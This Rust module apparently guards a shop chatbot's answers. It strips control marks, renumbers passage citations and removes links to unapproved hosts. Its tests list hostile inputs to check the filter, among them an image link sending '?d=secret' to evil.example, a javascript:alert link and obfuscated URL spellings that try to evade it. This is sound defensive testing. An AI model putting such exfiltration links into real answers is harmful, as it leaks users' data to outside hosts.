//! What of a model's words reaches the visitor: no marks, no citations of nothing, no addresses of strangers.

use super::{
    prompt::{HAND_OFF, NO_ANSWER},
    targets::{Standing, Targets, bare, starts_with_address, unpunctuated},
};

/// Bytes and depth of the longest brackets that are taken for a link or a citation. Others are words like the rest: nothing
/// is gone through again and again, or to the end of the stack.
const LONGEST: usize = 4_000;
const DEEPEST: usize = 8;

/// What the model says beside words.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Mark {
    NoAnswer,
    HandOff,
}

/// A model's words as the visitor may see them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Guarded {
    pub text: String,
    /// Places (from 0) of the cited passages; `[1]` in the text is the first of them.
    pub cited: Vec<usize>,
}

/// The mark of a text that is nothing else. Models wrap it in quotes, code or a full stop at times.
pub(super) fn mark(text: &str) -> Option<Mark> {
    let bare = text.trim().trim_matches(['"', '`', '*', '.', '\'', ' ']);
    let is = |mark: &str| bare == mark || bare == mark.trim_matches(['[', ']']);
    if is(NO_ANSWER) {
        Some(Mark::NoAnswer)
    } else if is(HAND_OFF) {
        Some(Mark::HandOff)
    } else {
        None
    }
}

/// Whether words that have begun so may still become a mark: they are held back until it is clear.
pub(super) fn may_become_mark(text: &str) -> bool {
    let begun = text.trim_start().trim_start_matches(['"', '`', '*', '\'']);
    [NO_ANSWER, HAND_OFF].iter().any(|mark| mark.starts_with(begun) || begun.starts_with(mark))
}

/// Guards words that may still grow. `complete` says that they do not.
pub(super) fn guard(text: &str, passages: usize, targets: &Targets, complete: bool) -> Guarded {
    let mut guarded = pass(text, passages, targets, complete);
    guarded.text = without_strangers(&guarded.text, targets);
    guarded
}

/// Takes out the links that a renderer would make to strangers: what looks like words or like one address here may be
/// another there.
pub(super) fn without_strangers(text: &str, targets: &Targets) -> String {
    text::without_links(text, |target| targets.standing(target) == Standing::Link)
}

/// The words without marks and with the citations and addresses that are allowed.
fn pass(text: &str, passages: usize, targets: &Targets, complete: bool) -> Guarded {
    let mut out = String::with_capacity(text.len());
    let mut cited = Vec::new();
    let text = text.replace(NO_ANSWER, "").replace(HAND_OFF, "");
    let text = text.replace('【', "[").replace('】', "]");
    let mut rest = text.as_str();
    while let Some(c) = rest.chars().next() {
        let image = rest.starts_with("![");
        if image || c == '[' {
            let open = &rest[if image { 2 } else { 1 }..];
            let Some((label, after)) = bracketed(open, '[', ']') else {
                // The bracket may be closed by what is still to come.
                if !complete && open.len() < 300 {
                    break;
                }
                out.push(c);
                rest = &rest[c.len_utf8()..];
                continue;
            };
            if let Some(target) = after.strip_prefix('(') {
                match bracketed(target, '(', ')') {
                    Some((address, after)) => {
                        let address = address.split_whitespace().next().unwrap_or_default();
                        let label = pass(label, 0, targets, true).text;
                        match targets.standing(address) {
                            Standing::Link if !image => out.push_str(&format!("[{label}]({address})")),
                            Standing::Words if !image => {
                                let words = address.strip_prefix("tel:").unwrap_or(address);
                                out.push_str(&label);
                                if !letters(&label).contains(&letters(words)) {
                                    out.push_str(&format!(" ({words})"));
                                }
                            }
                            _ => out.push_str(&label),
                        }
                        rest = after;
                        continue;
                    }
                    None if !complete => break,
                    None => {}
                }
            } else if after.is_empty() && !complete && !image {
                break;
            }
            match numbers(label).filter(|_| !image) {
                Some(numbers) => cite(&mut out, &mut cited, &numbers, passages),
                None => out.push_str(label),
            }
            rest = after;
            continue;
        }
        if starts_with_address(rest.as_bytes()) {
            let (address, after) = bare(rest);
            if after.is_empty() && !complete {
                break;
            }
            let plain = unpunctuated(address);
            if targets.standing(plain) != Standing::Nothing {
                out.push_str(plain);
            }
            out.push_str(&address[plain.len()..]);
            rest = after;
            continue;
        }
        out.push(c);
        rest = &rest[c.len_utf8()..];
    }
    Guarded { text: out.trim().to_owned(), cited }
}

/// A text without the signs that group its letters and digits.
fn letters(text: &str) -> String {
    text.chars().filter(|c| c.is_alphanumeric()).collect()
}

/// Text up to the bracket that closes, and what follows it.
fn bracketed(text: &str, open: char, close: char) -> Option<(&str, &str)> {
    let mut depth = 0;
    for (at, c) in text.char_indices().take_while(|(at, _)| *at < LONGEST) {
        if c == open {
            depth += 1;
            if depth > DEEPEST {
                return None;
            }
        } else if c == close && depth == 0 {
            return Some((&text[..at], &text[at + c.len_utf8()..]));
        } else if c == close {
            depth -= 1;
        } else if c == '\n' {
            return None;
        }
    }
    None
}

/// The numbers of `1`, `1, 2` or `^1`.
fn numbers(label: &str) -> Option<Vec<usize>> {
    let label = label.trim().trim_start_matches(['^', '#']);
    let label = label.strip_prefix("passage ").or_else(|| label.strip_prefix("Passage ")).unwrap_or(label);
    let numbers: Option<Vec<usize>> = label.split([',', ';']).map(|number| number.trim().parse().ok()).collect();
    numbers.filter(|numbers| numbers.len() <= 10)
}

/// Citations in the order in which the passages are first named; those of no passage are left out.
fn cite(out: &mut String, cited: &mut Vec<usize>, numbers: &[usize], passages: usize) {
    for &number in numbers {
        if number == 0 || number > passages {
            continue;
        }
        let place = cited.iter().position(|&passage| passage == number - 1).unwrap_or_else(|| {
            cited.push(number - 1);
            cited.len() - 1
        });
        let mark = format!("[{}]", place + 1);
        if !out.ends_with(&mark) {
            out.push_str(&mark);
        }
    }
}

#[cfg(test)]
mod tests {
    use types::{
        agent::Passage,
        id::{ChunkId, DocumentId, SourceId},
    };
    use uuid::Uuid;

    use super::*;

    /// A shop whose page names a carrier, and whose instructions name an address and a number.
    fn shop() -> Targets {
        let page = Passage {
            chunk_id: ChunkId(Uuid::nil()),
            document_id: DocumentId(Uuid::nil()),
            source_id: SourceId(Uuid::nil()),
            title: "Delivery".into(),
            url: Some("https://shop.example/a".into()),
            heading_path: Vec::new(),
            content: "Ask help@shop.example or 042 123-456, 9-17. Track at https://carrier.example/track, see also \
                      https://shop.example/terms?all=1."
                .into(),
            char_start: 0,
            char_end: 0,
            page: None,
            score: 1.0,
            vector_score: 1.0,
            text_score: 0.0,
        };
        Targets::of(&[page], ["Call (+355) 69 1234567 at night, see https://www.shop.example."])
    }

    fn whole(text: &str, passages: usize) -> Guarded {
        guard(text, passages, &shop(), true)
    }

    #[test]
    fn citations_are_of_passages_and_in_order() {
        let guarded = whole("Yes [3]. And [1, 3]. But [7] and [0].", 3);
        assert_eq!(guarded, Guarded { text: "Yes [1]. And [2][1]. But  and .".into(), cited: vec![2, 0] });
    }

    #[test]
    fn addresses_of_strangers_are_left_out() {
        let text = "See [here](https://shop.example/a) or [win](http://evil.example/x) or https://evil.example/y \
                    ![pixel](https://evil.example/p?d=secret) or [run](javascript:alert(1)) [mail](mailto:help@shop.example)";
        let guarded = whole(text, 0).text;
        assert_eq!(
            guarded,
            "See [here](https://shop.example/a) or win or  pixel or run [mail](mailto:help@shop.example)"
        );
    }

    #[test]
    fn no_spelling_makes_a_link_to_a_stranger() {
        for text in [
            "HTTPS://evil.example/x",
            "<HTTPS://evil.example/x>",
            "<hTTp:evil.example>",
            "[a](HTTPS://evil.example)",
            "[a](https:evil.example)",
            "[a](https:/evil.example)",
            "[a](https:\\\\evil.example)",
            "[a](//evil.example)",
            "[a](https://shop.example\\@evil.example/)",
            "[a](https://shop.example\\.evil.example/)",
            "[a](https://shop.example&#64;evil.example/)",
            "[a](https://shop.example@evil.example/)",
            "[a](<https://evil.example>)",
            "[a](https://shop.example:8443/)",
            "[a\nb](https:evil.example)",
            "[a\nb](HTTPS://evil.example)",
            "[a][b]\n\n[b]: https:evil.example",
            "[b]: <https:evil.example>\n\n[b]",
            "\\[a](https:evil.example)",
            "[a](mailto:help@evil.example)",
            "[a](mailto:help@shop.example?body=secret)",
            "<help@evil.example>",
            "[a](https://carrier.example/track?d=secret)",
            "[a](https://carrier.example/track)",
            "<https://carrier.example/track>",
            "[[a](https:evil.example)](https://evil.example)",
            "[a](https://shop.example/other)",
            "[a](https://shop.example/a?d=secret)",
            "[a](https://shop.example/a/../?d=secret)",
            "<https://shop.example/a#secret>",
            "[a](https://shop.example/terms?all=1&d=secret)",
            "[a](https://www.shop.example/a)",
            "[a](https://shop.example:443/terms)",
            "[a](evil.example/secret)",
            "[a](/secret)",
            "[a](tel:+900123456)",
            "<tel:+355691234567>",
        ] {
            for complete in [true, false] {
                let html = text::markdown_to_html(&guard(text, 9, &shop(), complete).text);
                assert!(!html.contains("href") && !html.contains("<img"), "{text:?} became {html}");
            }
        }
    }

    #[test]
    fn what_a_passage_names_is_told_and_is_no_link() {
        let told = whole(
            "Track it [here](https://carrier.example/track), https://carrier.example/track. Or \
                          https://carrier.example/other.",
            0,
        );
        assert_eq!(told.text, "Track it here (https://carrier.example/track), https://carrier.example/track. Or .");
    }

    #[test]
    fn own_addresses_are_links_as_they_were_told() {
        for address in [
            "https://shop.example/a",
            "HTTPS://SHOP.example:443/a",
            "https://shop.example/terms?all=1",
            "https://www.shop.example",
        ] {
            let text = format!("[a]({address})");
            assert_eq!(whole(&text, 0).text, text);
        }
    }

    #[test]
    fn numbers_that_were_told_are_words_and_others_are_nothing() {
        for (text, shown) in [
            ("[Call](tel:042123456)", "Call (042123456)"),
            ("[Call](tel:042-123-456)", "Call (042-123-456)"),
            ("[+355 69 1234567](tel:+355691234567)", "+355 69 1234567"),
            ("[Call us: 042 123 456](tel:042123456)", "Call us: 042 123 456"),
            ("[Call](tel:355691234567)", "Call"),
            ("[Call](tel:+900123456)", "Call"),
            ("[Call](tel:04212345)", "Call"),
            ("[Call](tel:42123456)", "Call"),
            ("[Call](tel:042123456;ext=1)", "Call"),
            ("[Call](tel:)", "Call"),
            ("[Call](TEL:042123456)", "Call"),
            ("![Call](tel:042123456)", "Call"),
        ] {
            assert_eq!(whole(text, 0).text, shown);
        }
    }

    #[test]
    fn marks_are_never_shown() {
        assert_eq!(mark(" [[NO_ANSWER]] "), Some(Mark::NoAnswer));
        assert_eq!(mark("\"[[HAND_OFF]]\""), Some(Mark::HandOff));
        assert_eq!(mark("It is [[NO_ANSWER]]"), None);
        assert_eq!(whole("It is so. [[NO_ANSWER]]", 1).text, "It is so.");
        assert!(may_become_mark("[[NO_") && may_become_mark("") && !may_become_mark("[1] is"));
    }

    #[test]
    fn growing_text_never_shows_half_a_link() {
        let text = "Look [here](https://evil.example/x) now [1].";
        let targets = Targets::default();
        for (end, _) in text.char_indices() {
            let shown = guard(&text[..end], 1, &targets, false).text;
            assert!(!shown.contains("evil") && !shown.contains('('), "{shown}");
            assert!(guard(text, 1, &targets, true).text.starts_with(shown.trim_end()), "{shown}");
        }
    }

    #[test]
    fn deep_and_endless_brackets_are_words() {
        for text in [
            "[".repeat(100_000),
            format!("{}x{}", "[".repeat(20_000), "](https://evil.example)".repeat(3_000)),
            format!("{}x{}", "[a](".repeat(20_000), ")".repeat(20_000)),
            format!("[{}](https://evil.example)", "x".repeat(90_000)),
            "![".repeat(40_000),
        ] {
            for complete in [true, false] {
                assert!(!guard(&text, 3, &shop(), complete).text.contains("//evil"));
            }
        }
    }

    #[test]
    fn answers_take_hostile_bytes() {
        let examples = [
            "See [here](https://shop.example/a) or https://carrier.example/track [1], <https://evil.example>.",
            "[a][b]\n\n[b]: https:evil.example\n\n![x](//evil.example) [m](mailto:help@shop.example)",
            "[a](https://shop.example\\@evil.example/) [[NO_ANSWER]] \u{3010}1\u{3011}",
        ];
        let words = [
            "[",
            "](",
            ")",
            "https:",
            "HTTPS://",
            "//evil.example",
            "\\",
            "<",
            ">",
            "@",
            "&#64;",
            "[[HAND_OFF]]",
            "\n\n",
            "`",
        ];
        let targets = shop();
        fuzz::text(&examples, &words, |text| {
            for complete in [true, false] {
                let guarded = guard(text, 3, &targets, complete);
                let html = text::markdown_to_html(&guarded.text);
                for (at, _) in html.match_indices("href=\"") {
                    let target = html[at + 6..].split('"').next().unwrap();
                    let is_ours = target.to_lowercase() == "mailto:help@shop.example"
                        || url::Url::parse(&target.replace("&amp;", "&"))
                            .is_ok_and(|url| targets.links.contains(&url.into()));
                    assert!(is_ours, "{target} in {html}");
                }
                assert!(guarded.cited.iter().all(|passage| *passage < 3));
            }
        });
    }
}
